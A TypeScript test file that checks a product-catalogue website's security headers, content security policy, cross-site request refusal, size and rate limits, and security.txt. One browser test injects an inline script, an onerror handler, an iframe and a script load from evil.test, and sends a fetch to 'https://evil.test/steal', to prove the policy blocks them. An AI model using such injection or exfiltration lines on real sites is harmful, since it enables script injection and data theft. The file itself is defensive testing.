import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { expect, test } from "vitest";
import { BRAND } from "../../../app/ground/company/brand.ts";
import { INTERNATIONAL_LOCALE } from "../../../app/ground/i18n/locales.ts";
import { serverTexts } from "../../../app/ground/i18n/server-translator.ts";
import { freshPage, open } from "../../host/page.ts";
import { postJson } from "../../host/post-json.ts";
import { SITE } from "../../host/site.ts";
import { expectRateLimit } from "../../rate-limit.ts";
import { deep } from "../../volume.ts";

const STANDARD: Readonly<Record<string, RegExp>> = {
  "strict-transport-security": /^max-age=\d{8,}; includeSubDomains; preload$/,
  "x-content-type-options": /^nosniff$/,
  "referrer-policy": /^strict-origin-when-cross-origin$/,
  "permissions-policy": /camera=\(\).*geolocation=\(self\).*microphone=\(\)/,
  "cross-origin-opener-policy": /^same-origin$/,
  "cross-origin-resource-policy": /^(same|cross)-origin$/,
  "content-security-policy": /default-src 'none'/,
  "cache-control": /./,
};

const asset = /href="(\/assets\/base-[^"]+\.css)"/;

test.each([
  ["/", 200],
  ["/en/products", 200],
  ["/en/products?q=1040252", 302],
  ["/ru/products.data?_routes=ru%2Fproducts", 200],
  ["/EN/PRODUCTS", 308],
  ["/en/products/x/y/1040252", 308],
  ["/ru/no-such-page", 404],
  ["/urunler/yok", 404],
  ["/api/health", 200],
  ["/api/no-such", 404],
  ["/api/en/products/1040252/datasheet.pdf", 200],
  ["/api/products/1040252/drawing.png?w=160", 200],
  ["/api/share.png?page=/en", 200],
  ["/files/no-such", 404],
  ["/drawings/1040252.svg", 200],
  ["/suggestions/en?q=klemm", 200],
  ["/order-lines/en", 405],
  ["/strip-products/en", 405],
  ["/mcp", 405],
  ["/assets/no-such.js", 404],
  ["/robots.txt", 200],
  ["/sitemap.xml", 200],
  ["/healthz", 200],
  ["/readyz", 200],
])("%s (%i) says what it may load, be embedded in and how long it is kept", async (path, status) => {
  const response = await fetch(SITE + path, { redirect: "manual" });
  await response.arrayBuffer();
  expect(response.status).toBe(status);
  for (const [name, pattern] of Object.entries(STANDARD))
    expect([name, response.headers.get(name)]).toEqual([name, expect.stringMatching(pattern)]);
  // Viewers of PDFs embed them, within the site alone.
  const ancestors = path.endsWith(".pdf") ? "'self'" : "'none'";
  expect(response.headers.get("content-security-policy")).toContain(`frame-ancestors ${ancestors}`);
});

test("what the platform serves by itself is protected too, and kept for good", async () => {
  const [, path] = asset.exec(await (await fetch(SITE)).text()) ?? [];
  const { headers } = await fetch(SITE + path);
  expect(headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
  expect(headers.get("x-content-type-options")).toBe("nosniff");
  const icon = await fetch(`${SITE}/favicon.svg`);
  expect([icon.headers.get("content-security-policy"), icon.headers.get("cache-control")]).toEqual([
    "default-src 'none'; frame-ancestors 'none'",
    "public, max-age=86400",
  ]);
});

test.each(["/", "/en/products", "/ru/contact", "/siparis-listesi", "/en/company/history"])(
  "%s runs its own scripts by their hashes, and allows nothing inline beside them",
  async (path) => {
    const response = await fetch(SITE + path);
    const html = await response.text();
    const policy = response.headers.get("content-security-policy") ?? "";
    expect(policy).not.toMatch(/unsafe|\*|http:|strict-dynamic|nonce/);
    const scripts = [...html.matchAll(/<script(?! type="application\/ld\+json")[^>]*>([\s\S]*?)<\/script>/g)];
    const hashes = scripts.map(([, text = ""]) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`);
    expect(hashes.length).toBeGreaterThan(1);
    const [, allowed = ""] = /script-src 'self'([^;]*)/.exec(policy) ?? [];
    expect(allowed.trim().split(" ").toSorted()).toEqual(hashes.toSorted());
    expect(html).not.toMatch(/\s(?:style|on\w+)=["']/);
    expect(html).not.toContain("nonce=");
  },
);

test("a browser runs nothing that was put into a page", async () => {
  const { page } = await freshPage();
  await open(page, "/en/products");
  const ran = await page.evaluate(async () => {
    const blocked: string[] = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => blocked.push(effectiveDirective));
    const script = document.createElement("script");
    script.textContent = "window.wasRun = 'inline script'";
    document.body.append(script);
    const remote = document.createElement("script");
    remote.src = "https://evil.test/x.js";
    document.body.append(remote);
    document.body.insertAdjacentHTML("beforeend", `<img src="x" onerror="window.wasRun = 'handler'">`);
    const frame = document.createElement("iframe");
    frame.src = "https://evil.test/";
    document.body.append(frame);
    await fetch("https://evil.test/steal").catch(() => undefined);
    for (const kinds = 4; new Set(blocked).size < kinds; )
      await new Promise((resolve) => document.addEventListener("securitypolicyviolation", resolve, { once: true }));
    return { ran: (window as { wasRun?: string }).wasRun, blocked: [...new Set(blocked)].toSorted() };
  });
  expect(ran).toEqual({
    ran: undefined,
    blocked: ["connect-src", "frame-src", "script-src-attr", "script-src-elem"],
  });
});

test.each([
  "/iletisim",
  "/en",
  "/api/en/messages",
  "/api/en/order-list.pdf",
  "/api/en/compliance.xlsx",
  "/api/en/strip-labels.pdf",
  "/order-lines/ru",
  "/strip-products/ru",
  "/punch-out/en",
  "/purge",
  "/ru/contact.data",
])("a page of another site cannot act on %s in a visitor's name", async (path) => {
  const foreign: readonly Record<string, string>[] = [
    { origin: "https://evil.test" },
    { origin: "null" },
    { "sec-fetch-site": "cross-site" },
    { "sec-fetch-site": "same-site" },
    { origin: `${SITE}.evil.test` },
  ];
  for (const headers of foreign) {
    const response = await fetch(SITE + path, { method: "POST", headers, body: "{}" });
    expect([headers, response.status]).toEqual([headers, 403]);
  }
});

test.each([
  // With three files.
  ["/ru/contact", "ru", 17_000_000, "Отправленные данные слишком велики."],
  ["/iletisim", "tr", 17_000_000, "Gönderilen veri çok büyük."],
  ["/de/produkte", "de", 10_000_001, "Die gesendeten Daten sind zu groß."],
  ["/api/en/messages", "en", 1_000_000, "What was sent is too large."],
])("more than any form holds is refused before it is looked at: %s", async (path, locale, bytes, message) => {
  const response = await fetch(SITE + path, { method: "POST", body: new Uint8Array(bytes) });
  expect([response.status, response.headers.get("content-language"), await response.text()]).toEqual([
    413,
    locale,
    message,
  ]);
});

test("an address that is too long is refused, and so is a method that no page has", async () => {
  expect((await fetch(`${SITE}/en/products?q=${"a".repeat(8200)}`)).status).toBe(414);
  for (const method of ["PUT", "DELETE", "PATCH", "PROPFIND"]) {
    const { status, headers } = await fetch(`${SITE}/en`, { method });
    expect([method, status, headers.get("allow")]).toEqual([method, 405, "GET, HEAD, POST"]);
  }
});

/** A household of its own, so that no other test's requests count. */
const household = () => ({
  "cf-connecting-ip": `2001:db8:${crypto.randomUUID().slice(0, 4)}:${crypto.randomUUID().slice(0, 4)}::7`,
});

// The numbers of production; that each door has a limit, limits.test.ts proves with three requests.
deep(
  "one address makes sixty documents a minute, twenty archives, and looks up a hundred and twenty lists",
  async () => {
    const headers = household();
    const sheet = `${SITE}/api/ru/products/1040252/datasheet.pdf`;
    await expectRateLimit(60, async () => {
      const response = await fetch(sheet, { headers });
      await response.arrayBuffer();
      return response.status;
    });
    const told = await fetch(sheet, { headers });
    expect([told.status, told.headers.get("retry-after"), await told.json()]).toEqual([
      429,
      "60",
      { title: serverTexts(INTERNATIONAL_LOCALE).refusals.tooManyDocuments.join(" "), status: 429 },
    ]);
    await expectRateLimit(20, async () => (await fetch(`${SITE}/api/en/downloads.zip?file=0`, { headers })).status);
    await expectRateLimit(120, async () => (await postJson(`${SITE}/order-lines/en`, ["1040252"], headers)).status);
    expect((await fetch(sheet, { headers: household() })).status).toBe(200);
  },
);

test("security.txt says where to report a weakness, and when it runs out (RFC 9116)", async () => {
  const response = await fetch(`${SITE}/.well-known/security.txt`);
  const text = await response.text();
  expect(response.headers.get("content-type")).toBe("text/plain; charset=utf-8");
  const fields = new Map(
    text
      .trim()
      .split("\n")
      .map((line) => line.split(": ", 2) as [string, string]),
  );
  expect(text).toContain(`Contact: mailto:${BRAND.email}`);
  expect(fields.get("Canonical")).toBe(`${BRAND.origin}/.well-known/security.txt`);
  const days = (Date.parse(fields.get("Expires") ?? "") - Date.now()) / 86_400_000;
  expect(days).toBeGreaterThan(30);
  expect(days).toBeLessThan(365);
});

test("every line of the threat model names a test that there is", () => {
  const model = readFileSync("docs/security.md", "utf8");
  const rows = model.split("\n").filter((line) => line.startsWith("| ") && !/^\| (?:Threat|---)/.test(line));
  expect(rows.length).toBeGreaterThan(12);
  for (const row of rows) {
    const [, file = "", name = ""] = /`(tests\/[^`]+)`: “([^”]+)”/.exec(row) ?? [];
    expect([row, file === "" ? "" : readFileSync(file, "utf8").includes(name)]).toEqual([row, true]);
  }
});
